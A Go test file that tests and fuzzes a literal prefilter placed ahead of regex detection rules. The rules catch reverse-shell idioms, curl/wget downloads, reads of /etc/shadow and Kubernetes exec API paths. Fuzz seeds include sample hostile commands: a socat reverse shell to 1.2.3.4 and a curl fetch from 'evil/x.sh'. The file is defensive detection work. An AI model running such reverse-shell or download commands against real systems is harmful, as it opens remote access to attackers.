package engine

import (
	"math/rand/v2"
	"regexp"
	"regexp/syntax"
	"strings"
	"testing"
	"unicode"
)

func TestLiteralFilter(t *testing.T) {
	for _, tt := range []struct {
		re   string
		want []string // nil: no filter
	}{
		{`abc`, []string{"abc"}},
		{`(?s:.*(/dev/tcp/|mkfifo|nc\s+-e).*)`, []string{"/dev/tcp/", "mkfifo", "nc"}},
		// Go's parser factors the alternation into nc(?:[ \t]+-e|at[ \t]+-e): the run joins the prefixes after it.
		{`(?s:.*(nc[ \t]+-e|ncat[ \t]+-e).*)`, []string{"nc\t", "nc ", "ncat\t", "ncat "}},
		{`^(?s:.*?/exec\?(?P<c>.*?)&(?:container|stdin)=.*)$`, []string{"/exec?"}}, // one string of three bytes or more before several
		{`https?://`, []string{"https://", "http://"}},
		{`a[bc]d`, []string{"abd", "acd"}},
		{`x+yz`, []string{"yz"}},
		{`(ab)+`, []string{"ab"}},
		{`ab|cd*`, nil},      // cd* may be just c: too short
		{`abc|d*`, nil},      // d* may match nothing
		{`a.*b`, nil},        // one character each
		{`(?i)abc`, nil},     // case-insensitive: not searched for
		{`.*`, nil},          // matches anything
		{`(abc)?`, nil},      // may be empty
		{`\x{FFFD}abc`, nil}, // U+FFFD also matches an invalid byte
		{`[a-z]+foo[0-9]`, []string{"foo"}},
		{`(?s:.*(/dev/tcp/|mkfifo|[^\x00-\x{10FFFF}]).*)`, []string{"/dev/tcp/", "mkfifo"}}, // a branch matching nothing adds nothing
	} {
		t.Run(tt.re, func(t *testing.T) {
			f := newLiteralFilter(tt.re)
			got := []string(f)
			if strings.Join(got, "|") != strings.Join(tt.want, "|") || (f == nil) != (tt.want == nil) {
				t.Errorf("filter = %q, want %q", got, tt.want)
			}
		})
	}
}

// generate writes a string the expression likely matches (anchors and word boundaries are not honoured), choosing
// by the random source: branches, repetition counts and class members.
func generate(re *syntax.Regexp, rnd *rand.Rand, b *strings.Builder, depth int) {
	if depth > 20 || b.Len() > 4096 {
		return
	}
	switch re.Op {
	case syntax.OpLiteral:
		for _, r := range re.Rune {
			if re.Flags&syntax.FoldCase != 0 && rnd.IntN(2) == 0 {
				r = unicode.SimpleFold(r)
			}
			b.WriteRune(r)
		}
	case syntax.OpCharClass:
		if len(re.Rune) > 0 {
			i := 2 * rnd.IntN(len(re.Rune)/2)
			lo, hi := re.Rune[i], re.Rune[i+1]
			b.WriteRune(lo + rune(rnd.Int64N(int64(min(hi-lo, 1000))+1)))
		}
	case syntax.OpAnyChar, syntax.OpAnyCharNotNL:
		b.WriteByte("ab/- x"[rnd.IntN(6)])
	case syntax.OpCapture:
		generate(re.Sub[0], rnd, b, depth+1)
	case syntax.OpStar, syntax.OpPlus, syntax.OpQuest, syntax.OpRepeat:
		lo, hi := 0, 3
		switch re.Op {
		case syntax.OpPlus:
			lo = 1
		case syntax.OpQuest:
			hi = 1
		case syntax.OpRepeat:
			lo, hi = re.Min, re.Max
			if hi < 0 || hi > lo+3 {
				hi = lo + 3
			}
		}
		for n := lo + rnd.IntN(hi-lo+1); n > 0; n-- {
			generate(re.Sub[0], rnd, b, depth+1)
		}
	case syntax.OpConcat:
		for _, sub := range re.Sub {
			generate(sub, rnd, b, depth+1)
		}
	case syntax.OpAlternate:
		generate(re.Sub[rnd.IntN(len(re.Sub))], rnd, b, depth+1)
	}
}

// FuzzLiteralFilter: the filter never turns away an input the regex matches: the fuzzer's input, and strings made
// from the regex itself, wrapped in the fuzzer's input.
func FuzzLiteralFilter(f *testing.F) {
	for _, s := range [][2]string{
		{`(?s:.*(/dev/tcp/|mkfifo|nc\s+-e|socat\s.*exec).*)`, "bash -c 'socat tcp:1.2.3.4 exec:sh'"},
		{`https?://[^/]+/x\.sh`, "curl http://evil/x.sh"},
		{`a(b|c)?d[ef]+`, "xxabdeef"},
		{`^(?:\x{FFFD}x)$`, "\xffx"},
		{`(?i)SeCrEt`, "secret"},
	} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, src, input string) {
		re, err := regexp.Compile(src)
		if err != nil || len(src) > 200 {
			return
		}
		parsed, err := syntax.Parse(src, syntax.Perl)
		if err != nil {
			return
		}
		filter := newLiteralFilter(src)
		rnd := rand.New(rand.NewPCG(uint64(len(input)), uint64(len(src))))
		candidates := []string{input}
		for range 8 {
			var b strings.Builder
			b.WriteString(input[:len(input)/2])
			generate(parsed.Simplify(), rnd, &b, 0)
			b.WriteString(input[len(input)/2:])
			candidates = append(candidates, b.String())
		}
		for _, in := range candidates {
			if re.MatchString(in) && !filter.mayMatch(in) {
				t.Fatalf("regex %q matches %q, the filter %q turns it away", src, in, filter)
			}
		}
	})
}

// TestLiteralFilterOnGenerated: strings made from the rules' kind of regexes match them, and the filter lets every
// match through.
func TestLiteralFilterOnGenerated(t *testing.T) {
	for _, src := range []string{
		`(?s:(/dev/tcp/|/dev/udp/|zsh/net/tcp|nc\s+-e|ncat\s+-e|nc\s.*\s-c\s|mkfifo|socat\s.*exec|bash\s+-i\s+>&|0>&1|import\s+socket.*connect|IO::Socket::INET|fsockopen|TCPSocket\.new|/inet/tcp/))`,
		`^(?s:.*?/exec\?(?P<raw>.*?)&(?:container|stdin|stdout|stderr)=.*)$`,
		`^/api/v1/nodes/[A-Za-z0-9.:-]+/proxy/(metrics|metrics/cadvisor|healthz)(\?.*)?$`,
		`(curl|wget)\s+(-[a-zA-Z]+\s+)*https?://[^\s]+`,
		`[?&]resourceVersion=0*[1-9][0-9]*(&|$)`,
		`(?i)(cat|less)\s+/etc/(shadow|passwd)`,
	} {
		re := regexp.MustCompile(src)
		parsed, err := syntax.Parse(src, syntax.Perl)
		if err != nil {
			t.Fatal(err)
		}
		filter := newLiteralFilter(src)
		rnd := rand.New(rand.NewPCG(1, 2))
		matched := 0
		for range 500 {
			var b strings.Builder
			generate(parsed.Simplify(), rnd, &b, 0)
			in := b.String()
			if re.MatchString(in) {
				matched++
				if !filter.mayMatch(in) {
					t.Fatalf("regex %q matches %q, the filter %q turns it away", src, in, filter)
				}
			}
		}
		if matched < 50 {
			t.Errorf("%q: only %d of 500 generated strings match: the generator does not test the filter", src, matched)
		}
	}
}

// BenchmarkLiteralFilter: a shell-idiom alternation like the corpus's reverse-shell rule's, on a command holding none
// of its idioms, with the regex alone and with the filter first (what regexMatcher does).
func BenchmarkLiteralFilter(b *testing.B) {
	const src = `(?s:(/dev/tcp/|/dev/udp/|zsh/net/tcp|mkfifo|socat\s.*exec|bash\s+-i\s+>&|0>&1|import\s+socket.*connect|IO::Socket::INET|fsockopen|TCPSocket\.new|/inet/tcp/))`
	re := regexp.MustCompile(src)
	filter := newLiteralFilter(src)
	for _, in := range []struct{ name, value string }{
		{"short-command", "sh -c ls -la /app/config && echo done"},
		{"64KiB-command", "sh -c echo " + strings.Repeat("lorem ipsum dolor sit amet ", 64<<10/27)},
	} {
		if re.MatchString(in.value) || filter == nil {
			b.Fatal("the benchmark's command must hold no idiom, and the regex must have a filter")
		}
		v := []byte(in.value)
		b.Run(in.name+"/regex", func(b *testing.B) {
			b.SetBytes(int64(len(v)))
			for i := 0; i < b.N; i++ {
				re.Match(v)
			}
		})
		b.Run(in.name+"/filter-then-regex", func(b *testing.B) {
			b.SetBytes(int64(len(v)))
			for i := 0; i < b.N; i++ {
				_ = filter.mayMatch(string(v)) && re.Match(v)
			}
		})
	}
}
